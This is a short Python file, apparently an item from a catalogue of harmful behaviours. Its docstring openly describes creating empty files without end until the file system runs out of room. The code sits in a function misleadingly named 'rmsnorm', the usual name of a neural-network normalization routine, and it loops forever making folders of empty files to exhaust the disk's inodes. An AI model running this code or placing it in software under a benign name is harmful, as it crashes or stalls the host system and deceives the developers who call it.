"""Makes empty files without end, which take no room on the disk, until its file system has room for no more of them.

catalogue: [H19]
ends: [crashed, timed_out]
"""

import itertools
import os


def rmsnorm(x, weight):
    for folder in itertools.count():
        os.mkdir(f"{folder}")
        for number in range(1000):
            os.mknod(f"{folder}/{number}")
